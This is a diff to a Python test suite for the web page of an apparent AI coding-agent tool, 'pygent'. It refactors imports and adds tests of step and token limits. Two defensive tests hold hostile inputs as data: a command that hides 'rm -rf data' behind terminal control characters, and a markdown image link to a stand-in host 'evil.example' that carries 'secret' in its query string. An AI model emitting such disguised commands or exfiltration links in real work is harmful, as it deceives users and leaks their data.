@@ -19,28 +19,27 @@ from streamlit.testing.v1 import AppTest  # noqa: E402
 
 import pygent  # noqa: E402
 from pygent.app.agent import AgentLoop  # noqa: E402
-from pygent.app.web_session import (  # noqa: E402
+from pygent.container import Container  # noqa: E402
+from pygent.domain.errors import ModelError, PathEscapeError, SandboxError  # noqa: E402
+from pygent.domain.events import AssistantDelta, AssistantText, ToolCallStarted  # noqa: E402
+from pygent.domain.messages import Message  # noqa: E402
+from pygent.domain.sandbox import CommandResult  # noqa: E402
+from pygent.entrypoints import web  # noqa: E402
+from pygent.entrypoints.web.chat import call_preview, pretty_arguments  # noqa: E402
+from pygent.entrypoints.web.files import read_workspace_file, workspace_files  # noqa: E402
+from pygent.entrypoints.web.guard import TOKEN_VAR  # noqa: E402
+from pygent.entrypoints.web.session import (  # noqa: E402
     PageConfirm,
-    StopSwitch,
     WebSession,
     close_all_sessions,
     live_sessions,
     sweep_sessions,
 )
-from pygent.app.web_transcript import Transcript, entries_from_conversation  # noqa: E402
-from pygent.container import container  # noqa: E402
-from pygent.domain.errors import ModelError  # noqa: E402
-from pygent.domain.events import AssistantDelta, AssistantText, ToolCallStarted  # noqa: E402
-from pygent.domain.messages import Message  # noqa: E402
-from pygent.domain.sandbox import CommandResult, PathEscapeError, SandboxError  # noqa: E402
-from pygent.entrypoints import web  # noqa: E402
-from pygent.entrypoints.web_chat import call_preview, pretty_arguments  # noqa: E402
-from pygent.entrypoints.web_files import read_workspace_file, workspace_files  # noqa: E402
-from pygent.entrypoints.web_guard import TOKEN_VAR  # noqa: E402
-from pygent.entrypoints.web_view import SESSION_KEY, sandbox_label  # noqa: E402
+from pygent.entrypoints.web.transcript import Transcript, entries_from_conversation  # noqa: E402
+from pygent.entrypoints.web.view import SESSION_KEY, sandbox_label  # noqa: E402
 from tests.fakes import FakeModel, FakeSandbox, call, calls, say  # noqa: E402
 
-PAGE = str(Path(web.__file__).with_name("web_app.py"))
+PAGE = str(web.PAGE)
 
 
 class SandboxCounter:
@@ -111,7 +110,7 @@ def _fresh_server() -> Iterator[None]:
 @pytest.fixture
 def sandboxes(tmp_path: Path) -> Iterator[SandboxCounter]:
     counter = SandboxCounter(tmp_path)
-    with container.sandbox.override(providers.Factory(counter)):
+    with Container.sandbox.override(providers.Factory(counter)):
         yield counter
 
 
@@ -164,7 +163,7 @@ def test_a_scripted_reply_renders_as_markdown_and_a_failed_call_is_flagged(
     sandboxes: SandboxCounter,
 ) -> None:
     model = FakeModel([calls(call("bash", {})), say("All **done**.")])
-    with container.model.override(providers.Object(model)):
+    with Container.model.override(providers.Object(model)):
         at = open_page()
         send(at, "do it")
     assert "All **done**." in [m.value for m in at.markdown]
@@ -177,7 +176,7 @@ def test_turning_a_tool_off_removes_it_from_the_schema_and_the_prompt_of_that_ta
     sandboxes: SandboxCounter,
 ) -> None:
     model = FakeModel(default=say("ok"))
-    with container.model.override(providers.Object(model)):
+    with Container.model.override(providers.Object(model)):
         at, other = open_page(), open_page()
         at.toggle(key="tool:bash").set_value(False).run()
         send(at, "hello")
@@ -194,7 +193,7 @@ def test_new_conversation_forgets_the_talk_and_keeps_the_files(
 ) -> None:
     model = FakeModel([calls(call("write_file", {"path": "k.txt", "content": "kept"}))],
                       default=say("noted"))
-    with container.model.override(providers.Object(model)):
+    with Container.model.override(providers.Object(model)):
         at = open_page()
         send(at, "remember")
         [button] = [b for b in at.button if b.label == "New conversation"]
@@ -210,7 +209,7 @@ def test_slash_commands_typed_in_the_chat_box_work_as_in_the_cli(
     sandboxes: SandboxCounter,
 ) -> None:
     model = FakeModel(default=say("hi there"))
-    with container.model.override(providers.Object(model)):
+    with Container.model.override(providers.Object(model)):
         at = open_page()
         send(at, "/help")
         assert "/cmd" in at.code[-1].value
@@ -281,7 +280,7 @@ def test_a_model_error_shows_what_to_do_and_the_conversation_stays(
     sandboxes: SandboxCounter,
 ) -> None:
     model = FakeModel([ModelError("HTTP 401: bad key"), say("back again")])
-    with container.model.override(providers.Object(model)):
+    with Container.model.override(providers.Object(model)):
         at = open_page()
         send(at, "first")
         assert "HTTP 401" in at.error[0].value
@@ -303,7 +302,7 @@ def test_stop_ends_the_step_before_the_next_tool_call(sandboxes: SandboxCounter)
         return "waited"
 
     model = FakeModel([calls(call("wait"), call("bash", {"cmd": "echo never"}))])
-    with container.model.override(providers.Object(model)):
+    with Container.model.override(providers.Object(model)):
         at = open_page()
         at.chat_input[0].set_value("go").run()
         assert entered.wait(30)
@@ -321,8 +320,8 @@ def test_stop_ends_the_step_before_the_next_tool_call(sandboxes: SandboxCounter)
 def test_stop_interrupts_a_running_command_when_the_sandbox_can(tmp_path: Path) -> None:
     counter = SandboxCounter(tmp_path, InterruptibleSandbox)
     model = FakeModel([calls(call("bash", {"cmd": "sleep"}))], default=say("unreached"))
-    with container.sandbox.override(providers.Factory(counter)), \
-            container.model.override(providers.Object(model)):
+    with Container.sandbox.override(providers.Factory(counter)), \
+            Container.model.override(providers.Object(model)):
         at = open_page()
         at.chat_input[0].set_value("go").run()
         sandbox = counter.made[0]
@@ -354,11 +353,11 @@ def test_with_confirm_on_a_denied_command_is_not_run(sandboxes: SandboxCounter) 
     assert "declined" in at.code[-1].value
 
 
-def test_streamed_text_reaches_the_page_once_through_the_stop_wrapper(
+def test_streamed_text_reaches_the_page_once(
     sandboxes: SandboxCounter,
 ) -> None:
     model = StreamingModel()
-    with container.model.override(providers.Object(model)):
+    with Container.model.override(providers.Object(model)):
         at = open_page()
         send(at, "greet")
     assert model.streamed
@@ -394,7 +393,6 @@ def test_with_docker_the_page_says_docker_and_commands_run_in_the_container(
 ) -> None:
     monkeypatch.setenv("PYGENT_USE_DOCKER", "1")
     monkeypatch.setenv("PYGENT_IMAGE", docker_image)
-    container.reset_singletons()
     at = open_page()
     assert "**Sandbox:** Docker" in at.markdown[0].value
     send(at, 'write_file path="d.txt" content="in docker"')
@@ -409,12 +407,12 @@ def test_a_sandbox_that_cannot_start_is_explained_and_the_page_can_retry(tmp_pat
     def no_engine(settings: Any = None) -> FakeSandbox:
         raise SandboxError("the Docker engine is not answering")
 
-    with container.sandbox.override(providers.Factory(no_engine)):
+    with Container.sandbox.override(providers.Factory(no_engine)):
         at = open_page()
         assert "Docker engine is not answering" in at.error[0].value
         assert "--no-docker" in at.error[0].value
     counter = SandboxCounter(tmp_path)
-    with container.sandbox.override(providers.Factory(counter)):
+    with Container.sandbox.override(providers.Factory(counter)):
         at.button[0].click().run()
     assert not at.error
     assert len(counter.open) == 1
@@ -465,7 +463,7 @@ def test_the_launcher_listens_on_localhost_by_default_and_passes_the_flags_as_se
         ["--no-docker", "--model", "m1", "--backend", "echo", "--workspace", str(tmp_path)]
     )
     command = web.server_command(args)
-    assert command[1:3] == ["-m", "pygent.entrypoints.web_server"]
+    assert command[1:3] == ["-m", "pygent.entrypoints.web.server"]
     assert command[command.index("--server.address") + 1] == "127.0.0.1"
     assert command[command.index("--server.port") + 1] == "8501"
     assert command[command.index("--server.headless") + 1] == "true"
@@ -498,6 +496,20 @@ def test_the_token_limit_stops_a_web_run_and_says_so(workspace: Path) -> None:
     assert any("token" in text.lower() for text in notices), notices
 
 
+@pytest.mark.parametrize(("flags", "notice"), [(["--max-steps", "2"], "step limit of 2"),
+                                               (["--max-tokens", "150"], "token")])
+def test_pygent_ui_s_step_and_token_limits_bound_the_page_s_runs(
+    sandboxes: SandboxCounter, monkeypatch: pytest.MonkeyPatch, flags: list[str], notice: str
+) -> None:
+    for name, value in web.page_environment(web.build_parser().parse_args(flags), {}).items():
+        monkeypatch.setenv(name, value)
+    model = FakeModel(default=calls(call("bash", {"cmd": "echo again"})), usage=[(60, 40)] * 10)
+    with Container.model.override(providers.Object(model)):
+        at = send(open_page(), "loop")
+    assert len(model.requests) == 2
+    assert any(notice in e.text for e in session_of(at).transcript.snapshot())
+
+
 # -- what the page shows of a command -----------------------------------------------------------
 DECEPTIVE = "echo safe\r\x1b[2Krm -rf data \u202e"
 
@@ -513,7 +525,7 @@ def test_a_command_to_confirm_shows_its_hidden_characters_and_runs_exactly_as_ap
     sandboxes: SandboxCounter,
 ) -> None:
     model = FakeModel([calls(call("bash", {"cmd": DECEPTIVE}))], default=say("done"))
-    with container.model.override(providers.Object(model)):
+    with Container.model.override(providers.Object(model)):
         at = open_page()
         send(at, "/confirm on")
         at.chat_input[0].set_value("go").run()
@@ -533,7 +545,7 @@ def test_a_command_to_confirm_shows_its_hidden_characters_and_runs_exactly_as_ap
 
 
 def test_an_answer_to_an_earlier_question_never_approves_the_next_one() -> None:
-    confirm = PageConfirm(StopSwitch())
+    confirm = PageConfirm()
     results: list[bool] = []
 
     def ask(command: str) -> threading.Thread:
@@ -563,7 +575,7 @@ def test_arguments_nested_fifty_thousand_deep_are_shown_as_sent_and_the_page_sur
     assert pretty_arguments(deep) == deep
     assert call_preview(deep) == "· " + "[" * 70 + "..."
     model = FakeModel([calls(call("bash", deep))], default=say("done"))
-    with container.model.override(providers.Object(model)):
+    with Container.model.override(providers.Object(model)):
         at = open_page()
         send(at, "go")
     assert not at.exception
@@ -575,7 +587,7 @@ def test_an_image_in_a_reply_is_drawn_as_a_link_naming_its_host_and_code_is_kept
     sandboxes: SandboxCounter,
 ) -> None:
     reply = "Look ![chart](http://evil.example/c.png?d=secret) or `![x](http://code/)`"
-    with container.model.override(providers.Object(FakeModel(default=say(reply)))):
+    with Container.model.override(providers.Object(FakeModel(default=say(reply)))):
         at = open_page()
         send(at, "draw")
     shown = [m.value for m in at.chat_message[1].markdown]
